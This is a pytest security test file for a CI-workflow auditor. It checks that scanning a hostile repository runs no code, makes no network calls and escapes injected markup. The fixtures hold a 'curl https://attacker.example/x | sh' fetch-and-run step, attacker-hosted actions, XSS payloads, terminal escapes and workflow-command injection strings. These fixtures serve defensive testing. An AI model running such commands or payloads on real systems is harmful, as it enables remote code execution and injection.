"""Security by construction: a scanned repository is data, never code, never a reason to
touch the network, and never a way to inject markup or commands into a report.

The CLI runs as a real subprocess with a ``sitecustomize`` guard on its
``PYTHONPATH`` that records (and refuses) every socket connection, DNS lookup
and new program started from it, so the tests prove what did *not* happen.
Where ``unshare -n`` works, a scan also runs in a namespace without any network
and must give the very same report.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from tests.conftest import write_files

TIMEOUT = 120
FORMATS = ("text", "json", "sarif", "junit", "github", "markdown", "html", "csv")

GUARD = r'''
import os, socket, subprocess

_LOG = os.environ["AUDITOR_GUARD_LOG"]


def _record(what):
    with open(_LOG, "a", encoding="utf-8") as fh:
        fh.write(what + "\n")


def _refuse(name):
    def refused(*args, **kwargs):
        _record(f"{name} {args[1:2]!r}")
        raise OSError(f"network access refused by the test guard: {name}")
    return refused


socket.socket.connect = _refuse("connect")
socket.socket.connect_ex = _refuse("connect_ex")
socket.socket.sendto = _refuse("sendto")
socket.getaddrinfo = lambda *a, **k: _refuse("getaddrinfo")(None, *a)
socket.create_connection = lambda *a, **k: _refuse("create_connection")(None, *a)

_popen_init = subprocess.Popen.__init__


def _popen(self, args, *rest, **kwargs):
    _record(f"exec {args!r}")
    return _popen_init(self, args, *rest, **kwargs)


subprocess.Popen.__init__ = _popen
for _name in ("system", "execv", "execve", "execvp", "execvpe", "posix_spawn", "posix_spawnp"):
    _orig = getattr(os, _name, None)
    if _orig is not None:
        def _wrap(*args, _orig=_orig, _name=_name, **kwargs):
            _record(f"exec {_name} {args[:2]!r}")
            return _orig(*args, **kwargs)
        setattr(os, _name, _wrap)
'''

EVIL_NAMES = {
    "html": "<script>alert(1)</script>",
    "newline": "a\n::error file=x,line=1::INJECTED",
    "escape": "\x1b[2J\x1b]0;pwned\x07RED",
    "percent": "x%0A::warning::pct",
}


def _evil_workflow() -> str:
    needs = ", ".join(json.dumps(v) for v in EVIL_NAMES.values())
    return (
        'name: "<script>alert(\'name\')</script>"\n'
        "on: push\n"
        "jobs:\n"
        '  "<img src=x onerror=alert(1)>":\n'
        "    runs-on: ubuntu-latest\n"
        f"    needs: [{needs}]\n"
        "    steps:\n"
        "      - run: echo hi\n"
    )


@pytest.fixture
def guard(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    folder = tmp_path / "guard"
    folder.mkdir()
    (folder / "sitecustomize.py").write_text(GUARD)
    log = tmp_path / "guard.log"
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([str(folder), env.get("PYTHONPATH", "")]).rstrip(os.pathsep)
    env["AUDITOR_GUARD_LOG"] = str(log)
    env["AUDITOR_CACHE_DIR"] = str(tmp_path / "cache")
    env.pop("FORCE_COLOR", None)
    env["NO_COLOR"] = "1"
    return log, env


def auditor(*args: str | Path, env: dict[str, str], cwd: Path | None = None,
            prefix: tuple[str, ...] = ()) -> subprocess.CompletedProcess[str]:  # fmt: skip
    return subprocess.run(
        [*prefix, sys.executable, "-m", "auditor", *map(str, args)],
        capture_output=True, text=True, timeout=TIMEOUT, env=env, cwd=cwd, check=False,
    )  # fmt: skip


def test_the_guard_itself_catches_network_and_programs(guard: tuple[Path, dict[str, str]]) -> None:
    log, env = guard
    code = (
        "import socket, subprocess\n"
        "try:\n    socket.create_connection(('example.com', 80), timeout=1)\nexcept OSError: pass\n"
        "subprocess.run(['true'])\n"
    )
    subprocess.run([sys.executable, "-c", code], env=env, timeout=TIMEOUT, check=True)
    text = log.read_text()
    assert "create_connection" in text and "exec ['true']" in text


def _hostile_repo(root: Path, marker: Path) -> Path:
    touch = f"touch {marker}"
    py = f"open({str(marker)!r}, 'w').write('ran')"
    return write_files(root, {
        ".github/workflows/release.yml": f"""
            name: release
            on: push
            jobs:
              publish:
                runs-on: ubuntu-latest
                outputs:
                  digest: ${{{{ steps.push.outputs.digest }}}}
                steps:
                  - id: push
                    run: |
                      {touch}
                      curl -sS https://attacker.example/x | sh
                      ./scripts/promote.sh
                  - run: python3 scripts/pwn.py
                  - shell: python
                    run: |
                      {py}
              promote:
                needs: publish
                uses: attacker/repo/.github/workflows/promote.yml@main
              verify:
                needs: promote
                runs-on: ubuntu-latest
                steps:
                  - uses: docker://attacker.example/img:latest
                  - uses: ./.github/actions/local
                  - run: bash .gitea/scripts/verify.sh
            """,
        ".github/actions/local/action.yml": f"""
            name: local
            runs:
              using: composite
              steps:
                - run: {touch}
                  shell: bash
            """,
        "scripts/promote.sh": f"#!/bin/sh\n{touch}\n",
        "scripts/pwn.py": f"{py}\n",
        ".gitea/scripts/verify.sh": f"#!/bin/sh\n{touch}\n",
        "setup.py": f"{py}\n",
        "conftest.py": f"{py}\n",
        "sitecustomize.py": f"{py}\n",
        "auditor.py": f"{py}\n",
        "rules/__init__.py": f"{py}\n",
    })  # fmt: skip


def test_no_repository_code_is_executed_and_nothing_is_started(
    tmp_path: Path, guard: tuple[Path, dict[str, str]]
) -> None:
    log, env = guard
    marker = tmp_path / "MARKER-repository-code-ran"
    root = _hostile_repo(tmp_path / "repo", marker)
    for script in root.rglob("*.sh"):
        script.chmod(0o755)
    for fmt in FORMATS:
        # cwd inside the repository: its auditor.py / rules/ / sitecustomize.py
        # must not shadow ours or run (the console script never puts cwd first).
        proc = subprocess.run(
            [str(Path(sys.executable).parent / "auditor"), "check", "--format", fmt, "."],
            capture_output=True, text=True, timeout=TIMEOUT, env=env, cwd=root, check=False,
        )  # fmt: skip
        assert proc.returncode in (0, 1), proc.stderr
        assert "Traceback" not in proc.stderr
    for argv in (["graph", str(root)], ["check", "--jobs", "2", "--no-cache", str(root)]):
        assert auditor(*argv, env=env).returncode in (0, 1)
    assert not marker.exists()
    assert not log.exists() or log.read_text() == "", log.read_text()


def test_no_network_access(tmp_path: Path, guard: tuple[Path, dict[str, str]]) -> None:
    log, env = guard
    root = _hostile_repo(tmp_path / "repo", tmp_path / "marker")
    guarded = auditor("check", "--format", "json", "--no-cache", root, env=env)
    assert guarded.returncode in (0, 1), guarded.stderr
    assert not log.exists() or log.read_text() == "", log.read_text()
    unshare = shutil.which("unshare")
    if unshare is None or subprocess.run([unshare, "-rn", "true"], check=False).returncode != 0:
        return  # the guard above is the proof where namespaces are not available
    isolated = auditor("check", "--format", "json", "--no-cache", root, env=env,
                       prefix=(unshare, "-rn"))  # fmt: skip
    assert isolated.returncode == guarded.returncode, isolated.stderr
    assert isolated.stdout == guarded.stdout


def _render(root: Path, fmt: str, env: dict[str, str]) -> str:
    proc = auditor("check", "--format", fmt, "--no-cache", root, env=env)
    assert proc.returncode == 1, proc.stderr
    return proc.stdout


@pytest.fixture
def evil_repo(tmp_path: Path) -> Path:
    return write_files(tmp_path / "evil", {".github/workflows/ci.yml": _evil_workflow()})


CONTROL = {chr(c) for c in range(32) if chr(c) not in "\n\t"} | {"\x7f"}


@pytest.mark.parametrize("fmt", FORMATS)
def test_reports_carry_no_raw_control_characters(
    evil_repo: Path, fmt: str, guard: tuple[Path, dict[str, str]]
) -> None:
    out = _render(evil_repo, fmt, guard[1])
    assert not CONTROL & set(out), sorted(repr(c) for c in CONTROL & set(out))


@pytest.mark.parametrize("fmt", ["html", "markdown"])
def test_markup_from_the_repository_is_escaped(
    evil_repo: Path, fmt: str, guard: tuple[Path, dict[str, str]]
) -> None:
    out = _render(evil_repo, fmt, guard[1])
    if fmt == "markdown":
        # Code renders as text: drop fenced blocks and code spans (any backtick run).
        out = re.sub(r"(?ms)^```.*?^```", "", out)
        out = re.sub(r"(`+)(?:(?!\1).)+?\1", "", out)
    assert "<script>alert(1)</script>" not in out
    assert "<img src=x onerror=alert(1)>" not in out
    assert "<script>alert('name')</script>" not in out


def test_workflow_commands_cannot_be_injected(
    evil_repo: Path, guard: tuple[Path, dict[str, str]]
) -> None:
    out = _render(evil_repo, "github", guard[1])
    for line in out.splitlines():
        if line.startswith("::"):
            assert line.startswith(("::error ", "::warning ", "::notice ")), line
    assert "INJECTED" in out  # the text is there, as data: escaped onto its own line
    assert not any(line.lstrip().startswith("::error file=x") for line in out.splitlines())


@pytest.mark.parametrize("fmt", ["json", "sarif"])
def test_structured_reports_keep_strings_exact(
    evil_repo: Path, fmt: str, guard: tuple[Path, dict[str, str]]
) -> None:
    doc = json.loads(_render(evil_repo, fmt, guard[1]))
    text = json.dumps(doc, ensure_ascii=False)
    assert EVIL_NAMES["html"] in text  # JSON escapes by construction; the data is intact


def test_junit_is_well_formed_xml(evil_repo: Path, guard: tuple[Path, dict[str, str]]) -> None:
    root = ET.fromstring(_render(evil_repo, "junit", guard[1]))
    assert "<script>alert(1)</script>" in ET.tostring(root, encoding="unicode").replace(
        "&lt;", "<").replace("&gt;", ">")  # fmt: skip


def test_paths_in_reports_are_repository_relative(
    tmp_path: Path, guard: tuple[Path, dict[str, str]]
) -> None:
    env = guard[1]
    root = write_files(tmp_path / "deep" / "checkout", {
        ".github/workflows/ci.yml": _evil_workflow(), ".gitea/workflows/sub/x.yml": _evil_workflow(),
    })  # fmt: skip
    for target in (root, root / ".github/workflows/ci.yml", root / ".github/workflows"):
        doc = json.loads(auditor("check", "--format", "json", "--no-cache", target, env=env).stdout)
        for f in doc["findings"]:
            assert not f["path"].startswith(("/", "..")) and str(tmp_path) not in f["path"], f
            assert f["path"] in (".github/workflows/ci.yml", ".gitea/workflows/sub/x.yml")
    sarif = json.loads(auditor("check", "--format", "sarif", "--no-cache", root, env=env).stdout)
    for result in sarif["runs"][0]["results"]:
        uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert not uri.startswith(("/", "file:", "..")), uri
